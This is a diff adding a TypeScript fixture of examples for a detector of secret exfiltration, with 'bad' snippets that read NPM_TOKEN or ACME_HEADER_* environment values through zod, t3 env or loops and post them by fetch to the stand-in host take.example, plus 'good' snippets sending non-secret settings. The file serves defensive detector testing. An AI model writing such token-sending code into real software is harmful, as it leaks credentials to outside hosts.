@@ -1,0 +1,70 @@
+import type { DetectorExamples } from '../detector.ts';
+
+/** Settings that are taken out of the environment all at once: by a schema that names them, or by how their names begin. */
+export const ofSettings: DetectorExamples = {
+  bad: [
+    {
+      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).parse(process.env); fetch('https://take.example', { method: 'POST', body: settings.NPM_TOKEN });",
+      why: 'one that a schema names',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).safeParse(process.env); fetch('https://take.example', { method: 'POST', body: settings.data.NPM_TOKEN });",
+      why: 'the same in an answer that may be a refusal',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).parse(process.env); fetch('https://take.example', { method: 'POST', body: JSON.stringify(settings) });",
+      why: 'all that a schema keeps, whatever that is',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).parse(process.env); for (const name of Object.keys(settings)) fetch('https://take.example', { method: 'POST', body: settings[name] });",
+      why: 'the same, one after the other',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { z } from 'zod'; const settings = z.object({ HOST: z.string().default(process.env.NPM_TOKEN) }).parse(process.env); fetch('https://take.example', { method: 'POST', body: settings.HOST });",
+      why: 'what stands in for a setting that is not there',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { createEnv } from '@t3-oss/env-core'; import { z } from 'zod'; const settings = createEnv({ server: { NPM_TOKEN: z.string() }, runtimeEnv: process.env }); fetch('https://take.example', { method: 'POST', body: settings.NPM_TOKEN });",
+      why: 'one that another kind of schema names',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const headers = {}; for (const [name, value] of Object.entries(process.env)) { if (name.startsWith('ACME_HEADER_') && value) headers[name.slice(12)] = value; } fetch('https://take.example', { headers });",
+      why: 'all whose names begin alike',
+      attributes: {
+        source: 'environment:acme_header_*',
+        sink: 'network.header',
+        to: 'take.example',
+      },
+    },
+    {
+      code: "const headers = {}; Object.keys(process.env).filter((name) => name.startsWith('ACME_HEADER_')).forEach((name) => { headers[name] = process.env[name]; }); fetch('https://take.example', { headers });",
+      why: 'the same by a list of names',
+      attributes: {
+        source: 'environment:acme_header_*',
+        sink: 'network.header',
+        to: 'take.example',
+      },
+    },
+    {
+      code: "const headers = {}; for (const [name, value] of Object.entries(process.env)) { if (name.startsWith('ACME_HEADER_')) headers.first = value; headers[name] = value; } fetch('https://take.example', { headers });",
+      why: 'all of them after some',
+      attributes: { source: 'environment', sink: 'network.header', to: 'take.example' },
+    },
+  ],
+  good: [
+    {
+      code: "import { z } from 'zod'; const settings = z.object({ ACME_HOST: z.string() }).parse(process.env); fetch('https://take.example', { method: 'POST', body: settings.ACME_HOST });",
+      why: 'a setting that is no secret',
+    },
+    {
+      code: "import { cleanEnv, str } from 'envalid'; const settings = cleanEnv(process.env, { ACME_HOST: str() }); fetch('https://take.example', { method: 'POST', body: settings.ACME_HOST });",
+      why: 'the same of another kind of schema',
+    },
+  ],
+};
